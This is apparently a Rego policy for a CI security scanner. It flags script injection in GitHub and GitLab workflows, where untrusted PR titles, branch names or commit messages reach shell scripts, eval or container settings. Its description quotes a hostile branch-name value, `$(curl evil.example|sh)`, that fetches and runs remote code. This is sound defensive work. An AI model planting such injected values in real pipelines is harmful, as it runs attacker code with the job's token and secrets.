# METADATA
# title: Text that anybody can write becomes part of a script
# description: >-
#   The forge puts the value into the script before the shell reads it, so the title of a pull request or the name of a
#   branch such as `$(curl evil.example|sh)` is executed with the token and the secrets of the job.
# related_resources:
#   - https://docs.github.com/en/actions/concepts/security/script-injections
# custom:
#   id: CI002
#   severity: critical
#   confidence: high
#   input: pipeline
#   vendors: [github, gitlab]
#   controls:
#     - nist-800-53:SI-10
#     - nist-800-53:SA-11
#     - ssdf:PW.5.1
#     - csf-2:PR.PS-06
#     - soc2:CC6.8
#     - iso-27001:A.8.28
#     - pci-dss:6.2.4
#     - cis-github:1.5.2
#   remediation: >-
#     Hand the value to the step as an environment variable and use it in quotes ("$TITLE"); never put it into the text
#     of a script or into `eval`.
#   answers: >-
#     Let the local action or workflow take the value from the event itself, as an environment variable that its
#     script reads in quotes, instead of handing it over as an input.
package gate.policies.pipeline.script_injection

import data.gate
import data.gate.pipeline as pipelines

# What comes from a caller or from the form of a manual run is nobody's free text. An expression that cannot be read is
# reported with the file.
deny contains finding if {
	some [job, step] in pipelines.steps(input)
	some interpolation in step.interpolations
	interpolation.trust == "untrusted"
	is_script(step, interpolation.at)
	message := sprintf("%s, which anybody can write, becomes part of a script", [interpolation.tainted_by])
	finding := gate.keyed(interpolation, [], message, sprintf("%s/%s", [job.id, interpolation.expr]))
}

# A variable keeps such a text apart from the script, until a shell is told to read it as a script once more.
deny contains finding if {
	some [job, step] in pipelines.steps(input)
	step.run != null
	some command in step.run.commands
	reads_again(command)
	some variable in command.variables
	variable in hostile(job, step)
	message := sprintf("%s runs the text of $%s, which anybody can write", [command.program, variable])
	finding := gate.keyed(command, [], message, sprintf("%s/%s", [job.id, variable]))
}

# A shell, an image or the options of a container decide what runs, for every step below.
deny contains finding if {
	some [holder, name] in array.concat([[input, "defaults"]], [[each, each.id] | some each in input.jobs])
	some interpolation in object.get(holder, "interpolations", [])
	interpolation.trust == "untrusted"
	regex.match(`^(defaults\.run\.shell|container(\.image|\.options)?|services\.[^.]+(\.image|\.options)?)$`, interpolation.at)
	message := sprintf("%s, which anybody can write, decides how the job is run", [interpolation.tainted_by])
	finding := gate.keyed(interpolation, [], message, sprintf("%s/%s", [name, interpolation.expr]))
}

# What an action or workflow of this repository does with its inputs stands in its own file, where they are a caller's.
unknown contains finding if {
	some [job, user] in array.concat([[each, each] | some each in input.jobs], pipelines.steps(input))
	uses := object.get(user, "uses", null)
	uses != null
	uses.kind == "local"
	some interpolation in user.interpolations
	interpolation.trust == "untrusted"
	startswith(interpolation.at, "with.")
	message := sprintf("hands %s, which anybody can write, to %s, which may run it", [interpolation.tainted_by, uses.raw])
	finding := gate.keyed(interpolation, [], message, sprintf("%s/%s", [job.id, interpolation.expr]))
}

is_script(step, "shell") if step.run != null

is_script(step, at) if {
	at in {"with.args", "with.entrypoint"}
	step.uses != null
	step.uses.kind == "docker"
}

is_script(step, "run") if step.run != null

is_script(step, at) if {
	name := pipelines.action(step)
	some [action, input_name] in scripts
	name == action
	lower(at) == sprintf("with.%s", [input_name])
}

# Inputs of actions that are run as a program.
scripts := [
	["actions/github-script", "script"],
	["appleboy/ssh-action", "script"],
	["azure/cli", "inlinescript"],
	["azure/powershell", "inlinescript"],
	["nick-fields/retry", "command"],
	["addnab/docker-run-action", "run"],
]

reads_again(command) if command.program == "eval"

reads_again(command) if {
	command.program in {"sh", "bash", "dash", "zsh", "ksh"}
	some word in command.argv
	regex.match(`^-[a-z]*c$`, word)
}

# Variables of a step that hold such a text. GitLab sets its own in every job.
hostile(job, step) := {name |
	some [name, interpolation] in pipelines.variables(job, step)
	interpolation.trust == "untrusted"
} if {
	input.vendor == "github"
}

hostile(_, _) := predefined if input.vendor == "gitlab"

predefined := {
	"CI_COMMIT_AUTHOR",
	"CI_COMMIT_BRANCH",
	"CI_COMMIT_DESCRIPTION",
	"CI_COMMIT_MESSAGE",
	"CI_COMMIT_REF_NAME",
	"CI_COMMIT_TAG_MESSAGE",
	"CI_COMMIT_TITLE",
	"CI_MERGE_REQUEST_DESCRIPTION",
	"CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
	"CI_MERGE_REQUEST_TITLE",
}
